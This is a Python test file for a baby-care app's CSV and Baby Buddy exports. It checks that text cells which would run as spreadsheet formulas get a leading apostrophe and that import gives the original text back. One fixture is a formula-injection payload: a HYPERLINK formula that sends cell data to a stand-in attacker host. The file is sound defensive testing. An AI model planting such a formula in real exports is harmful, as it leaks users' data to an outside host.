"""CSV cells a spreadsheet would run as a formula (`=HYPERLINK(...)` in a note)
are written with a leading apostrophe, in calmflow's CSV and in the Baby Buddy
file; calmflow's own import gives every text back as it was."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest

from calmflow.core.records import SessionRecord
from calmflow.services.exchange.babybuddy import babybuddy_file
from calmflow.services.exchange.csv_file import as_written, read_csv, spreadsheet_safe, to_csv

START = datetime(2027, 5, 10, 6, 0, tzinfo=UTC)
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]
AS_TEXT = ["'=already quoted", "''=twice", "'plain quote", "it's = fine", "-", ""]


def _session(i: int, text: str) -> SessionRecord:
    started = START + timedelta(hours=i)
    return SessionRecord(
        routine=text or "standard",
        started_at=started,
        ended_at=started + timedelta(minutes=20),
        status="completed",
        planned_s=1200,
        played_s=1200,
        output=text or "device",
        volume_total_ml=100.5,
        volume_unit="ml",
        notes=text or None,
        experiment=text or None,
        experiment_arm=text or None,
    )


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_every_text_cell_that_starts_a_formula_gets_an_apostrophe(text: str) -> None:
    (row,) = _rows(to_csv([_session(0, text)], tz=UTC))
    for column in ("notes", "routine", "output", "experiment", "experiment_arm"):
        assert row[column] == "'" + text
    # Numbers stay numbers: a spreadsheet still sums them.
    assert (row["amount"], row["total_ml"], row["played_s"]) == ("100.5", "100.5", "1200")


def test_text_and_numbers_that_start_no_formula_are_written_as_they_are() -> None:
    (row,) = _rows(to_csv([_session(0, "after the bath")], tz=UTC))
    assert (row["notes"], row["routine"]) == ("after the bath", "after the bath")


@pytest.mark.parametrize("text", FORMULAS + AS_TEXT)
def test_calmflows_import_gives_every_text_back_as_it_was(text: str) -> None:
    original = _session(0, text)
    (back,) = read_csv(to_csv([original], tz=UTC), tz=UTC)
    assert back.notes == original.notes
    assert (back.experiment, back.experiment_arm) == (original.experiment, original.experiment_arm)
    # routine and output are read trimmed of white space, as before
    assert back.routine == original.routine.strip()


def test_one_apostrophe_comes_off_only_before_a_formula_character() -> None:
    assert as_written("'=1+1") == "=1+1"
    assert as_written("''=1+1") == "'=1+1"
    assert as_written("'plain") == "'plain"
    assert as_written("'") == "'"
    assert spreadsheet_safe("'=x") == "''=x"  # so that it comes back as it was


def test_the_baby_buddy_files_notes_get_an_apostrophe_too() -> None:
    made = babybuddy_file(
        [_session(0, "=1+1"), _session(1, "")], tz=UTC, now=START + timedelta(days=1)
    )
    notes = [row["notes"] for row in _rows(made.text)]
    assert notes[0].startswith("'=1+1\ncalmflow: ")
    assert notes[1].startswith("calmflow: ")
